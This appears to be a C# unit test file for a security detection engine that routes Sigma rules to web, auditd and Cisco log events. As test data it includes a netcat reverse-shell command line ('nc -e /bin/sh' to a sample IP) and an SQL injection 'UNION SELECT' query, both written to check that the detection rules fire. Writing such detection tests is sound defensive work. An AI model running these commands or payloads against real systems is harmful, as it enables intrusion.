using Soc.Detection.Compilation;
using Soc.Detection.Engine;
using Soc.Detection.Events;
using Soc.Detection.Tests.Support;
using static Soc.Detection.Tests.Support.RuleHarness;

namespace Soc.Detection.Tests.Engine;

public sealed class RoutingTests
{
    private static List<Alert> Run(DetectionEngine engine, LogEvent ev)
    {
        var alerts = new List<Alert>();
        engine.Evaluate(ev, alerts);
        return alerts;
    }

    [Fact]
    public void WebserverRulesSeeWebEventsWithMappedW3cFields()
    {
        var rule = Rule("sel:\n    cs-method: POST\n    cs-uri-query|contains: 'union select'\n    sc-status: 200\ncondition: sel", "category: webserver");
        var engine = new DetectionEngine([rule]);
        var hit = Event(("event.dataset", "nginx.access"), ("http.request.method", "POST"), ("url.query", "id=1 UNION SELECT 1"), ("http.response.status_code", 200L));
        Assert.Single(Run(engine, hit));
        hit.Set("event.dataset", "system.auth");
        Assert.Empty(Run(engine, hit));
        hit.Set("event.dataset", "apache.access");
        Assert.Equal("id=1 UNION SELECT 1", Assert.Single(Run(engine, hit)).MatchedFields["url.query"]);
    }

    [Fact]
    public void LinuxProcessCreationSeesOnlyAuditdExecveEvents()
    {
        var rule = Rule("sel:\n    Image|endswith: '/nc'\n    CommandLine|contains: ' -e '\ncondition: sel", "product: linux\ncategory: process_creation");
        var engine = new DetectionEngine([rule]);
        var ev = Event(("event.dataset", "auditd"), ("event.category", new List<object?> { "process" }), ("event.type", "start"), ("process.executable", "/usr/bin/nc"), ("process.command_line", "nc -e /bin/sh 1.2.3.4"));
        Assert.Single(Run(engine, ev));
        ev.Set("event.type", "end");
        Assert.Empty(Run(engine, ev));
    }

    [Fact]
    public void AuditdFieldsFallBackToThePrefixedLowercaseName()
    {
        var rule = Rule("sel:\n    type: EXECVE\n    a0: wget\n    SYSCALL: execve\ncondition: sel", "product: linux\nservice: auditd");
        var engine = new DetectionEngine([rule]);
        Assert.Single(Run(engine, Event(("event.dataset", "auditd"), ("auditd.type", "EXECVE"), ("auditd.a0", "wget"), ("auditd.syscall", "execve"))));
    }

    [Fact]
    public void RulesForOtherProductsLoadButAreNeverRouted()
    {
        var windows = Rule("sel:\n    Image|endswith: cmd.exe\ncondition: sel", "product: windows\ncategory: process_creation");
        var engine = new DetectionEngine([windows]);
        Assert.Equal(1, engine.UnroutedRules);
        Assert.Empty(Run(engine, Event(("event.dataset", "auditd"), ("Image", "cmd.exe"))));
    }

    [Fact]
    public void AUserMappingFileReplacesTheDefault()
    {
        var path = Path.Combine(Path.GetTempPath(), $"map-{Guid.NewGuid():N}.yml");
        File.WriteAllText(path, "routes:\n  - logsource: {product: acme}\n    datasets: [acme.log]\n    fields:\n      Who: user.name\nplaceholders:\n  bad: [mallory]\n");
        try
        {
            var rule = Rule("sel:\n    Who|expand: '%bad%'\ncondition: sel", "product: acme");
            var engine = new DetectionEngine([rule], new DetectionEngineOptions { MappingFile = path });
            Assert.Single(Run(engine, Event(("event.dataset", "acme.log"), ("user.name", "Mallory"))));
        }
        finally
        {
            File.Delete(path);
        }
    }

    [Fact]
    public void DefaultMappingCoversTheAgreedDatasets()
    {
        var datasets = LogSourceMap.Default.Routes.SelectMany(r => r.Datasets).ToHashSet();
        foreach (var d in new[] { "system.auth", "system.syslog", "nginx.access", "apache.access", "nginx.error", "apache.error", "auditd", "cisco.asa", "cisco.ios", "fortinet.fortigate", "pfsense.filterlog" })
        {
            Assert.Contains(d, datasets);
        }
    }

    [Fact]
    public void RegressionSampleMatchesCiscoDot1xRule()
    {
        var rules = SigmaRuleLoader().Rules;
        var raw = File.ReadAllText(Directory.GetFiles(RepoPaths.CorpusFile("sigma", "regression_data", "rules", "cisco", "aaa", "cisco_cli_dot1x_disabled"), "*.raw").Single()).TrimEnd('\n', '\r');
        var engine = new DetectionEngine(rules);
        var alerts = Run(engine, Event(("event.dataset", "cisco.ios"), ("message", raw), ("event.original", raw)));
        var alert = Assert.Single(alerts);
        Assert.Equal("ef0ff092-a24a-4fbc-beea-06c08d53e085", alert.RuleId);
        Assert.Equal("Luc Génaux", alert.Author);
    }

    private static Soc.Detection.Sigma.RuleLoadResult SigmaRuleLoader() =>
        Soc.Detection.Sigma.SigmaRuleLoader.LoadPaths([RepoPaths.CorpusFile("sigma", "rules", "network", "cisco")]);
}
